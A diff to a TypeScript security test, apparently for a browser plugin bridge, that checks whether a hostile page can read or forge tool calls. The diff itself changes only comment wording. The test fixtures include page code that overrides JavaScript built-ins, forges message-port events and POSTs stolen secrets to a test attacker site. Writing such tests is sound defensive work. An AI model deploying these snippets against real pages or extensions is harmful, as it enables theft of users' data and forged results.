@@ -1,6 +1,6 @@
 /**
- * Threat: a page that runs code in its window before any plugin. The hostile page can neither read nor forge the
- * arguments and results of tools.
+ * Threat: a hostile page runs its own code before any plugin starts. The page must neither read nor forge the arguments
+ * and results of tools.
  */
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
@@ -10,11 +10,11 @@ import { type Stack, startStack } from '../harness/stack.ts';
 import { waitFor } from '../harness/wait.ts';
 import { type AttackerSite, secretText, startAttackerSite } from './attacker.ts';
 
-/** defineNote is page code that defines note(leak), which sends a leak to the attacker's site. */
+/** defineNote is page code that defines the function note, which sends a leaked secret to the attacker's site. */
 const defineNote = `const send = fetch.bind(window), text = JSON.stringify; const note = (x) => send('/note', { method: 'POST', body: text(x) });`;
 /**
- * spyOnBuiltins is page code that replaces built-ins. The replaced built-ins send secrets to the attacker's site and
- * forge results on message ports.
+ * spyOnBuiltins is page code that replaces JavaScript built-ins. The replaced built-ins send secrets to the attacker's
+ * site and forge results on message ports.
  */
 const spyOnBuiltins = `
   const on = EventTarget.prototype.addEventListener, apply = Reflect.apply, parse = JSON.parse, then = Promise.prototype.then;
@@ -27,7 +27,7 @@ const spyOnBuiltins = `
     return apply(on, this, [t, f, o]); };
   for (const key of ['code', 'then', 'toJSON', 'value'])
     Object.defineProperty(Error.prototype, key, { configurable: true, get() { note(['getter', key, this.message]); return 'FORGED'; } });`;
-/** forgeEvents is page code that forges the events with which a bridge and a plugin host find each other. */
+/** forgeEvents is page code that forges the DOM events with which a bridge and a plugin host connect. */
 const forgeEvents = `
   const { port1: mine, port2: other } = new MessageChannel();
   mine.addEventListener('taken', () => note('taken'));
@@ -63,7 +63,9 @@ after(async () => {
   await stack?.close();
 });
 
-/** isPluginLive waits until the server lists the tab at path, and reports whether the plugin is live in that tab. */
+/**
+ * isPluginLive waits until the daemon lists the tab that shows path, and reports whether the plugin runs in that tab.
+ */
 async function isPluginLive(path: string): Promise<boolean> {
   const tab = await waitFor(`the tab ${path}`, async () =>
     (await stack.listTabs()).find((tab) => tab.url === `${attackerSite.origin}${path}` && !('loading' in tab)),
@@ -71,12 +73,15 @@ async function isPluginLive(path: string): Promise<boolean> {
   return (tab.plugins ?? []).length > 0;
 }
 
-/** waitForTabCount waits until the server lists exactly count tabs. */
+/** waitForTabCount waits until the daemon lists exactly count tabs. */
 async function waitForTabCount(count = 1): Promise<void> {
   await waitFor(`${count} tabs`, async () => (await stack.listTabs()).length === count);
 }
 
-/** openOnlyTab waits until all other tabs are closed, forgets earlier leaks, and opens a page of the attacker's site. */
+/**
+ * openOnlyTab waits until all other tabs are closed, clears the recorded leaks, and opens a page of the attacker's
+ * site.
+ */
 async function openOnlyTab(path: string): Promise<Page> {
   await waitForTabCount(0);
   attackerSite.leaks.length = 0;
@@ -85,7 +90,10 @@ async function openOnlyTab(path: string): Promise<Page> {
   return page;
 }
 
-/** assertPageSawNothing calls tools. The results and errors must be unchanged, and the page must have seen no secret. */
+/**
+ * assertPageSawNothing calls tools in the hostile page. The results and errors must be unchanged, and the page must
+ * have seen no secret.
+ */
 async function assertPageSawNothing(): Promise<void> {
   const echo = await client.call('messages__echo', { value: secretText });
   assert.equal(echo.isError, false, echo.text);
@@ -123,8 +131,8 @@ test('page: a page in a window whose built-ins the opener replaced gets a plugin
   await opener.close();
   await waitForTabCount();
   assert.equal(await isPluginLive('/plain'), false, 'a plugin host runs with the built-ins of the opener');
-  // The call reloads the tab, and the reloaded page gets a new window. If opentabs may not reload the tab, the error
-  // asks the user to reload the tab.
+  // The tool call reloads the tab, which creates a new Window for the page. If opentabs may not reload the tab, the
+  // error must request that the user does.
   const echo = await client.call('messages__echo', { value: secretText });
   if (echo.isError) {
     assert.match(echo.text, /reload/);
